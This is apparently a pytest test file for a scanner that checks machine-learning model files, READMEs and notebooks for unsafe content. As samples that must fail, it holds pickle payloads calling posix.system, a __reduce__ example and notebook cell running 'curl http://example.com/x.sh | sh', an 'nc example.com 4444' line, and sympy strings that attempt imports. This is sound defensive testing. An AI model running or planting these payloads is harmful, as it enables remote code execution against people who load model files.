"""What libraries and people write in good faith passes, and what lies just outside of it does not."""

import io
import json
import pickle
import zipfile

import pytest

from tests.formats.pickles import ECHO, call, data, dictionary, name, new, pack, proto, text
from tests.scan.samples import scan
from weighbridge.core.evidence import Outcome
from weighbridge.scan.config_targets import judged
from weighbridge.scan.contracts.exported import troubles


def outcome(path: str, content: bytes) -> Outcome:
    return scan({path: content}).files[0].outcome


def stream(program: bytes) -> Outcome:
    return outcome("model.pkl", proto() + program + b".")


# ---- distributions that keep a method of their own

RANDINT = new(name("scipy.stats._discrete_distns", "randint_gen"))
ENTROPY = name("scipy.stats._discrete_distns", "randint_gen._entropy")
GETATTR, METHOD = name("builtins", "getattr"), name("types", "MethodType")


def vectorized(function: bytes) -> bytes:
    return (
        new(name("numpy", "vectorize")) + dictionary(text("pyfunc"), function, text("cache"), b"\x89") + b"b"
    )


@pytest.mark.parametrize("protocol", range(2, 6))
def test_a_search_over_discrete_distributions_passes(protocol: int) -> None:
    from scipy import stats  # type: ignore[import-untyped]
    from sklearn.ensemble import RandomForestClassifier  # type: ignore[import-untyped]
    from sklearn.model_selection import RandomizedSearchCV  # type: ignore[import-untyped]

    ranges = {
        "max_depth": stats.randint(2, 6),
        "max_features": stats.uniform(0.1, 0.8),
        "n": stats.poisson(3),
    }
    search = RandomizedSearchCV(RandomForestClassifier(), ranges)
    assert outcome("model.pkl", pickle.dumps(search, protocol)) is Outcome.PASS


@pytest.mark.parametrize(
    "method",
    [call(GETATTR, RANDINT, text("_entropy")), call(METHOD, ENTROPY, RANDINT)],
    ids=["getattr", "MethodType"],
)
def test_the_method_of_a_distribution_may_be_kept(method: bytes) -> None:
    assert stream(vectorized(method)) is Outcome.PASS


@pytest.mark.parametrize(
    "program",
    [
        vectorized(name("posix", "system")),
        vectorized(call(GETATTR, name("posix", "system"), text("__call__"))),
        call(GETATTR, RANDINT, text("__class__")),
        call(GETATTR, RANDINT, text("__init__")),
        call(METHOD, name("posix", "system"), text(ECHO)),
        call(METHOD, name("posix", "system"), RANDINT),
        call(METHOD, ENTROPY, text(ECHO)),
        call(name("numpy", "vectorize"), name("posix", "system")),
        call(call(name("numpy", "vectorize"), name("posix", "system")), text(ECHO)),
    ],
)
def test_no_other_method_may(program: bytes) -> None:
    assert stream(program) is Outcome.FAIL


@pytest.mark.parametrize(
    "program",
    [
        call(GETATTR, new(name("torch.nn.modules.linear", "Linear")), text("_entropy")),
        call(vectorized(call(GETATTR, RANDINT, text("_entropy"))), text("x")),
        vectorized(name("numpy", "mean")),
    ],
)
def test_what_is_done_with_it_is_judged(program: bytes) -> None:
    assert stream(program) is not Outcome.PASS


# ---- estimators

CATBOOST = new(name("catboost.core", "CatBoostClassifier"))
SMOTE = new(name("imblearn.over_sampling._smote.base", "SMOTE"))


def test_estimators_of_further_libraries_pass() -> None:
    model = dictionary(text("iterations"), b"K\x05", text("__model"), data(b"CBM1" + bytes(60)))
    assert stream(CATBOOST + model + b"b") is Outcome.PASS
    assert stream(SMOTE + dictionary(text("k_neighbors"), b"K\x05") + b"b") is Outcome.PASS


@pytest.mark.parametrize(
    "state",
    [
        dictionary(text("__model"), data(b"\x80\x04" + bytes(60))),
        dictionary(text("__model"), name("posix", "system")),
        dictionary(text("_test_evals"), RANDINT),
        dictionary(text("__class__"), b"N"),
        pack(b"N", b"N"),
    ],
)
def test_another_state_of_catboost_does_not(state: bytes) -> None:
    assert stream(CATBOOST + state + b"b") is not Outcome.PASS


# ---- sizes of exported programs


@pytest.mark.parametrize(
    "size",
    [
        "Symbol('s31', positive=True, integer=True)",
        "Mul(Integer(2), Symbol('s0', integer=True))",
        "Pow(Symbol('s0'), Integer(-1))",
        "Add(Symbol('u0'), 1)",
    ],
)
def test_sizes_that_are_spelled_out(size: str) -> None:
    assert list(troubles({"expr_str": size})) == []


@pytest.mark.parametrize(
    "size",
    [
        "Symbol('__import__')",
        "Symbol('s0').__class__",
        "Symbol('s0', positive=print)",
        "Symbol('s0', cls=True)('x')",
        "Symbol(\"s0\" + 's')",
        "Pow(Integer(10), Integer(10000000))",
        "Pow(10, Symbol('s0'))",
        "'s0'",
    ],
)
def test_sizes_that_do_more(size: str) -> None:
    assert [trouble.harmful for trouble in troubles({"expr_str": size})] == [True]


# ---- settings, pages, notebooks


def skops(kind: str, module: str) -> bytes:
    node = {"__class__": kind, "__module__": module, "__loader__": "TypeNode", "__id__": 1}
    schema = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "protocol": 2, "_skops_version": "0.14",
              "content": {"a": node}, "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
              "content": []}}  # fmt: skip
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return file.getvalue()


def test_types_of_columns_in_skops() -> None:
    assert outcome("m.skops", skops("object", "builtins")) is Outcome.PASS
    assert outcome("m.skops", skops("number", "numpy")) is Outcome.PASS
    assert outcome("m.skops", skops("eval", "builtins")) is Outcome.FAIL
    assert outcome("m.skops", skops("object.__subclasses__", "builtins")) is Outcome.FAIL


SHOWN = """# Security
```python
class Payload:
    def __reduce__(self):
        import os
        return os.system, ("curl http://example.com/x.sh | sh",)
```
"""


def test_a_page_may_show_what_a_pickle_can_do() -> None:
    assert outcome("README.md", SHOWN.encode()) is Outcome.PASS
    copied = SHOWN + "\n```\ncurl http://example.com/x.sh | sh\n```\n"
    assert outcome("README.md", copied.encode()) is Outcome.FAIL
    behind = SHOWN.replace("        import os\n", "        !curl http://example.com/x.sh | sh\n")
    assert outcome("README.md", behind.encode()) is Outcome.FAIL


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("yolo train model=yolov8n.pt", Outcome.UNKNOWN),
        ("nproc", Outcome.UNKNOWN),
        ("dvc pull", Outcome.UNKNOWN),
        ("java -version", Outcome.UNKNOWN),
        ("java -jar x.jar", Outcome.FAIL),
        ("go run example.com/x", Outcome.FAIL),
        ("nc example.com 4444", Outcome.FAIL),
        ("yolo/x", Outcome.FAIL),
        ("protoc --x; curl http://example.com/x.sh | sh", Outcome.FAIL),
    ],
)
def test_tools_of_the_trade_in_a_notebook(command: str, expected: Outcome) -> None:
    cell = {"cell_type": "code", "metadata": {}, "source": [f"!{command}"], "outputs": []}
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
    assert outcome("demo.ipynb", json.dumps(notebook).encode()) is expected


@pytest.mark.parametrize(
    ("target", "verdict"),
    [
        ("torchvision.models.resnet18", ""),
        ("torchvision.models.detection.fasterrcnn_resnet50_fpn", ""),
        ("torchvision.models.get_model", "?"),
        ("torchvision.models._api.get_model", "?"),
        ("torchvision.models.resnet.load_state_dict_from_url", "?"),
    ],
)
def test_builders_of_torchvision(target: str, verdict: str) -> None:
    assert judged(target) == verdict


def test_a_configuration_of_darknet_is_text_and_its_weights_are_not_read() -> None:
    assert (
        outcome("yolov3.cfg", b"[net]\nbatch=64\nwidth=416\n\n[convolutional]\nfilters=32\n") is Outcome.PASS
    )
    assert outcome("yolo.weights", b"[net]\n" + bytes(range(256)) * 4) is Outcome.UNKNOWN


def test_numbers_that_begin_like_an_empty_table_are_no_torch7() -> None:
    numbers = b"\x03\0\0\0" + b"\x01\0\0\0" + bytes(4) + b"\x01\0\0\0" * 40
    assert scan({"model.ckpt-1.data-00000-of-00001": numbers}).files[0].format == "unknown"
    assert scan({"model.t7": numbers}).files[0].format == "torch7"
